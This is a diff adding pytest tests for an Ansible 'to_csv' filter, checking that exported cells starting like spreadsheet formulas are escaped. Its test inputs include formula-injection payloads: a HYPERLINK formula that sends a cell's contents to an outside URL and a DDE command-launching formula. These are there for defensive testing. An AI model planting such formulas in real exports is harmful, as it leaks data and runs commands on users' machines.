@@ -1,0 +1,117 @@
+# Copyright: (c) 2026, vpsfleet.panels contributors
+# GNU General Public License v3.0 or later (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from ansible.errors import AnsibleFilterError
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ansible_collections.vpsfleet.panels.plugins.filter.to_csv import FORMULA, FilterModule, to_csv
+
+
+def cell(value):
+    """The one cell of one row, as the file holds it."""
+    header, text = to_csv([{"a": value}], ["a"]).split("\r\n", 1)
+    assert header == "a"
+    return text.removesuffix("\r\n")
+
+
+def test_the_filter_has_its_name():
+    assert FilterModule().filters() == {"to_csv": to_csv}
+
+
+def test_rows_and_header():
+    rows = [{"id": 1, "name": "web01", "more": 0}, {"id": 2, "name": "db, old", "more": 0}]
+    assert to_csv(iter(rows), ["id", "name"]) == 'id,name\r\n1,web01\r\n2,"db, old"\r\n'
+
+
+def test_columns_can_have_names_of_their_own():
+    assert to_csv([{"msg": "x"}], {"message": "msg"}) == "message\r\nx\r\n"
+
+
+def test_no_rows():
+    assert to_csv([], ["id", "name"]) == "id,name\r\n"
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (None, '""'),  # alone in its row; beside others it is nothing at all
+        (True, "true"),
+        (False, "false"),
+        (-1, "-1"),
+        (0.5, "0.5"),
+        ([], '""'),
+        (["cpu", "memory"], "cpu; memory"),
+        ([None, True, -3], "; true; -3"),
+        ('say "no"', '"say ""no"""'),
+        ("two\nlines", '"two\nlines"'),
+        ("Bücher 日本", "Bücher 日本"),
+    ],
+)
+def test_values(value, expected):
+    assert cell(value) == expected
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=1+1",
+        "+1",
+        "-2",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\u00a0=1",
+        "\uff1d1",
+        '=HYPERLINK("http://example.com?leak="&A1,"click")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_no_cell_is_a_formula(value):
+    (_header, (text,)) = csv.reader(io.StringIO(to_csv([{"a": value}], ["a"]), newline=""))
+    assert text == f"'{value}"
+
+
+def test_no_formula_in_a_list():
+    assert cell(["=1", "+2"]) == "'=1; '+2"
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
+def test_any_text_survives_and_none_begins_like_a_formula(texts):
+    rows = [dict(zip("ab", texts, strict=True))]
+    # Python's reader takes a lone NUL for the end of nothing; all else must come back.
+    (_header, cells) = csv.reader(io.StringIO(to_csv(rows, ["a", "b"]), newline=""))
+    for text, read in zip(texts, cells, strict=True):
+        assert read in (text, f"'{text}")
+        assert not read.startswith(FORMULA)
+
+
+@pytest.mark.parametrize("rows", [["text"], [1], "text", {"a": 1}])
+def test_only_dictionaries(rows):
+    with pytest.raises(AnsibleFilterError, match="list of dictionaries"):
+        to_csv(rows, ["a"])
+
+
+@pytest.mark.parametrize("columns", [[], "id", None, 3])
+def test_columns_are_needed(columns):
+    with pytest.raises(AnsibleFilterError, match="needs the columns"):
+        to_csv([], columns)
+
+
+def test_a_row_that_lacks_a_column():
+    with pytest.raises(AnsibleFilterError, match="row 2 has no name, msg"):
+        to_csv([{"id": 1, "name": "", "msg": ""}, {"id": 2}], ["id", "name", "msg"])
+
+
+def test_a_dictionary_is_no_cell():
+    with pytest.raises(AnsibleFilterError, match="dictionary into a cell"):
+        to_csv([{"a": {"b": 1}}], ["a"])
